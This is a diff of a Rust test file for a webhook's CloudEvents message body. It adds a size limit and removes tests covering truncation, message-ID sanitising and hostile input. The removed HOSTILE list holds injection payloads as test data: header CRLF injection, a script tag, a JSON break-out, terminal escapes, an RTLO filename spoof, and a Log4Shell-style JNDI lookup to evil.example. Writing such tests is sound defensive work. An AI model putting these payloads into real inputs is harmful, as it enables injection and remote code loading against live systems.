@@ -1,9 +1,22 @@
+//! The webhook's wire format: CloudEvents 1.0, the same since the first version.
+
+use std::sync::LazyLock;
+
 use proptest::prelude::*;
 use serde_json::{Value, json};
 
-use super::super::samples::{SUB, affected, cluster, dana, degraded, now, opened, resolved, storm};
+use super::samples::{SUB, affected, cluster, dana, degraded, now, opened, resolved, storm};
 use super::*;
 use crate::domain::incident::{Affected, TimelineEntry};
+use crate::domain::{ClusterId, Incident};
+
+/// Longest body in bytes (source: Standard Webhooks, "payload size ... 20kb").
+const BODY_BYTES_MAX: usize = 20_000;
+
+fn body(incident: &Incident) -> Result<String, ()> {
+    static WEBHOOK: LazyLock<PreparedSink> = LazyLock::new(|| shipped("webhook"));
+    Ok(super::body(&WEBHOOK, incident).to_string())
+}
 
 fn pretty(incident: &Incident) -> String {
     let value: Value = serde_json::from_str(&body(incident).unwrap()).unwrap();
@@ -189,74 +202,6 @@ fn clusters_of_several_subscriptions_have_no_common_subject() {
     incident.clusters.push(Affected { id: ClusterId::parse(&other).unwrap(), status: "stopped".to_owned() });
     let event: Value = serde_json::from_str(&body(&incident).unwrap()).unwrap();
     assert_eq!(event.get("subject"), None);
-}
-
-#[test]
-fn a_long_story_is_cut_to_fit_and_says_how_much_went() {
-    let mut incident = storm();
-    incident.clusters = (0..200).map(|i| affected(&format!("aks-{i:03}"), "restarting")).collect();
-    incident.cluster_count = 250;
-    incident.timeline = (0..300)
-        .map(|i| TimelineEntry { at: now(), text: format!("Line {i} of a long story about many clusters.") })
-        .collect();
-    let body = body(&incident).unwrap();
-    assert!(body.len() <= BODY_BYTES_MAX, "{}", body.len());
-    assert!(body.len() > BODY_BYTES_MAX - 1_000, "not more than needed: {}", body.len());
-    let data = &serde_json::from_str::<Value>(&body).unwrap()["data"];
-    let shown = data["clusters"].as_array().unwrap().len();
-    assert_eq!(data["cut"]["clusters"], json!(250 - shown));
-    assert_eq!(data["cut"]["timeline"], 295);
-    let timeline = data["timeline"].as_array().unwrap();
-    assert_eq!(
-        timeline.last().unwrap()["text"],
-        "Line 299 of a long story about many clusters.",
-        "the newest stays"
-    );
-    assert_eq!(data["clusters"][0]["name"], "aks-000");
-}
-
-/// What attackers put into names: terminal, markup, template, log and header injections.
-const HOSTILE: [&str; 8] = [
-    "\u{1b}[2J\u{7}",
-    "a\r\nX-Evil: 1\r\n\r\n",
-    "\"},\"state\":\"resolved\",\"x\":{\"",
-    "<!channel> <script>alert(1)</script> </title>",
-    "{{7*7}} ${jndi:ldap://evil.example/a} %s%n",
-    "\u{202e}gnp.exe\u{200b}\u{2028}",
-    "\0\u{1}\u{9b}31m",
-    "[click](https://evil.example) @everyone \\\\\"",
-];
-
-#[test]
-fn nothing_in_a_name_changes_the_message_or_the_screen_it_is_shown_on() {
-    for hostile in HOSTILE {
-        let mut incident = opened();
-        let caller = incident.caller.as_mut().unwrap();
-        caller.upn = Some(hostile.to_owned());
-        caller.name = Some(hostile.to_owned());
-        caller.identity_resource = Some(hostile.to_owned());
-        incident.title = format!("stopped by {hostile}");
-        incident.correlation_id = Some(hostile.to_owned());
-        incident.done = vec![hostile.to_owned()];
-        incident.timeline[0].text = hostile.to_owned();
-        let event: Value = serde_json::from_str(&body(&incident).unwrap()).unwrap();
-        assert_eq!(event["data"]["state"], "opened");
-        let expected = crate::domain::text::clean(hostile, 400);
-        assert_eq!(event["data"]["who"]["upn"], json!(expected));
-        assert!(!expected.chars().any(char::is_control));
-        let text = pretty(&incident);
-        assert!(!text.chars().any(|c| c.is_control() && c != '\n'), "{text}");
-        assert!(!text.contains("\\u00"), "nor escaped ones: {text}");
-    }
-}
-
-#[test]
-fn a_message_id_fits_a_header_and_the_signed_text_whatever_the_incidents_id() {
-    let mut incident = opened();
-    incident.id = format!("a.b\r\nc ü{}", "x".repeat(500));
-    let id = message_id(&incident);
-    assert!(id.starts_with("a_b__c__x") && id.ends_with("-0") && id.len() <= 140, "{id}");
-    assert!(http::HeaderValue::from_str(&id).is_ok());
 }
 
 fn any_texts() -> impl Strategy<Value = Vec<String>> {
